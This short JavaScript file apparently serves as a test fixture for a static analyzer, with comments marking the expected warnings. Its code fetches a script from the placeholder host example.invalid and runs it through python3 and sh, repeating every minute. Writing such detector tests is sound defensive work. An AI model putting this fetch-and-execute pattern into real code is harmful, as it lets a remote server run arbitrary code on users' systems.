const { spawn, execFile } = require('child_process');

// What a server answers, as a program: behind a flag, and on the standard input of what was given none.
exports.start = async () => {
  const text = await (await fetch('https://example.invalid/stage.py')).text();
  execFile('python3', ['-c', text]); // want "execFile runs whatever .example.invalid. answers"
  const shell = spawn('sh');
  shell.stdin.write(text); // want "stdin runs whatever .example.invalid. answers"
  const python = spawn('/usr/bin/python3', ['-u', '-']);
  python.stdin.end(text); // want "stdin runs whatever .example.invalid. answers"
};
setInterval(exports.start, 60000);
